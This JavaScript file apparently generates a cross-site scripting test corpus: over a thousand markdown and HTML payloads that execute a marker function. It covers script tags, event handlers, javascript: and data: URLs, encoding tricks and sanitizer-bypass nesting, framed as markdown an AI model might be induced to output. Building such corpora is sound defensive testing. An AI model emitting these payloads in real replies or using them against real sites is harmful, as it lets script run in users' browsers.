// A thousand and more ways to have a page run a script, as markdown that a model might be made to write.
// Each calls ran(n); the ways are those of the well-known collections, put together from parts.

const CALL = (n) => `ran(${n})`;

// What runs by itself as HTML, with a place for the call.
const MARKUP = [
  (c) => `<script>${c}</script>`,
  (c) => `<script src="data:text/javascript,${c}"></script>`,
  (c) => `<script type="module">${c}</script>`,
  (c) => `<scr<script>ipt>${c}</scr</script>ipt>`,
  (c) => `<SCRIPT >${c}</SCRIPT >`,
  (c) => `<script\n>${c}</script\n>`,
  (c) => `<svg><script>${c}</script></svg>`,
  (c) => `<svg><script href="data:text/javascript,${c}"/></svg>`,
  (c) => `<svg/onload=${c}>`,
  (c) => `<svg><animate onbegin=${c} attributeName=x dur=1s>`,
  (c) => `<svg><set onbegin=${c} attributeName=x to=1>`,
  (c) => `<svg><a xlink:href="javascript:${c}"><text y=20>x</text></a></svg>`,
  (c) =>
    `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href=x onerror='${c}'/></svg>#x">`,
  (c) => `<math><mtext><table><mglyph><style><img src=x onerror=${c}>`,
  (c) => `<math href="javascript:${c}">x</math>`,
  (c) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${c}>`,
  (c) => `<svg></p><style><a id="</style><img src=1 onerror=${c}>">`,
  (c) => `<noscript><p title="</noscript><img src=x onerror=${c}>">`,
  (c) => `<template><img src=x onerror=${c}></template><img src=x onerror=${c}>`,
  (c) => `<iframe srcdoc="<script>parent.${c}</script>"></iframe>`,
  (c) => `<iframe src="javascript:parent.${c}"></iframe>`,
  (c) => `<iframe onload=${c}></iframe>`,
  (c) => `<object data="javascript:${c}"></object>`,
  (c) => `<object data="data:text/html,<script>parent.${c}</script>"></object>`,
  (c) => `<embed src="javascript:${c}">`,
  (c) => `<embed src=x onload=${c}>`,
  (c) => `<link rel=stylesheet href=data:text/css, onload=${c}>`,
  (c) => `<style onload=${c}></style>`,
  (c) => `<style>@import 'javascript:${c}';</style>`,
  (c) => `<base href="javascript:${c}//"><a href=x>x</a>`,
  (c) => `<meta http-equiv=refresh content="0;url=javascript:${c}">`,
  (c) => `<form action="javascript:${c}"><button autofocus onfocus=${c}>x</button></form>`,
  (c) => `<isindex action="javascript:${c}" type=image>`,
  (c) => `<div style="background:url(javascript:${c})" onmouseenter=${c}>x</div>`,
  (c) => `<div id=x tabindex=1 onfocus=${c} autofocus></div>`,
  (c) => `<img src=x onerror=${c}>`,
  (c) => `<img src=x onerror="${c}" alt="`,
  (c) => `<img src="x\` onerror=${c}">`,
  (c) => `<img """><script>${c}</script>">`,
  (c) => `<img src=x:x onerror&#61;${c}>`,
  (c) => `<img/src=x/onerror=${c}>`,
  (c) => `<img\tsrc=x\tonerror=${c}>`,
  (c) => `<img src=x oNeRrOr=${c}>`,
  (c) => `<image src=x onerror=${c}>`,
  (c) => `<x contenteditable onfocus=${c} autofocus>x`,
  (c) => `<!--><img src=x onerror=${c}>-->`,
  (c) => `<!-- --!><img src=x onerror=${c}> -->`,
  (c) => `<![CDATA[><img src=x onerror=${c}>]]>`,
  (c) => `<?xml ?><img src=x onerror=${c}>`,
  (c) => `<a href="x" ping="javascript:${c}" onfocus=${c} autofocus>x</a>`,
  (c) => `"><img src=x onerror=${c}>`,
  (c) => `</code></pre><img src=x onerror=${c}>`,
  (c) => `</title><img src=x onerror=${c}>`,
  (c) => `<xss onpointerrawupdate=${c} onanimationstart=${c} style="animation:breathe 1s">`,
];

// Elements and the events that they have, most of which fire when the element comes to life.
const ELEMENTS =
  "img svg body video audio source details input select textarea marquee iframe object button div a p table td style".split(
    " ",
  );
const EVENTS =
  "onload onerror onfocus ontoggle onstart onloadstart oncanplay onanimationstart onpageshow onbeforetoggle".split(" ");

// Where markdown takes a URL.
const LINKS = [
  (url) => `[x](${url})`,
  (url) => `[x](<${url}>)`,
  (url) => `![x](${url})`,
  (url) => `![x](<${url}> "t")`,
  (url) => `[x][r]\n\n[r]: ${url}`,
  (url) => `<${url}>`,
  (url) => `[![x](${url})](${url})`,
  (url) => `| a |\n|---|\n| [x](${url}) |`,
  (url) => `- [ ] [x](${url})`,
];
const SCHEMES = [
  (c) => `javascript:${c}`,
  (c) => `JaVaScRiPt:${c}`,
  (c) => `java\tscript:${c}`,
  (c) => `&#106;avascript:${c}`,
  (c) => `&#x6A;avascript&colon;${c}`,
  (c) => `javascript&#58;${c}`,
  (c) => `\u0001javascript:${c}`,
  (c) => `\u00a0javascript:${c}`,
  (c) => `javascript://x%0a${c}`,
  (c) => `javascript:/*x*/${c}`,
  (c) => `vbscript:${c}`,
  (c) => `data:text/html,<script>${c}</script>`,
  (c) => `data:text/html;base64,${btoa(`<script>${c}</script>`)}`,
  (c) => `data:image/svg+xml,<svg onload=${c}>`,
  (c) => `blob:${c}`,
  (c) => `filesystem:${c}`,
  (c) => `https://x" onerror="${c}`,
  (c) => `https://x' autofocus onfocus='${c}`,
  (c) => `x"onmouseover="${c}`,
];

// Where a reply may carry markup.
const PLACES = [
  (html) => html,
  (html) => `Words before ${html} and after`,
  (html) => `- ${html}`,
  (html) => `> ${html}`,
  (html) => `# ${html}`,
  (html) => `| a |\n|---|\n| ${html.replaceAll("|", "\\|").replaceAll("\n", " ")} |`,
  (html) => `\`\`\`html\n${html}\n\`\`\`\n${html}`,
  (html) => `\`\`\`"><img src=x onerror=ran(0)>\n${html}\n\`\`\``,
];

export function injections() {
  const made = [];
  const add = (make) => made.push(make(CALL(made.length)));
  for (const markup of MARKUP) for (const place of PLACES) add((call) => place(markup(call)));
  for (const tag of ELEMENTS)
    for (const event of EVENTS) {
      const markup = (call) => `<${tag} src=x open autofocus tabindex=0 ${event}=${call}>x</${tag}>`;
      add(markup);
      add((call) => `1. ${markup(call)}\n   > ${markup(call)}`);
    }
  for (const link of LINKS) for (const scheme of SCHEMES) add((call) => link(scheme(call)));
  return made;
}
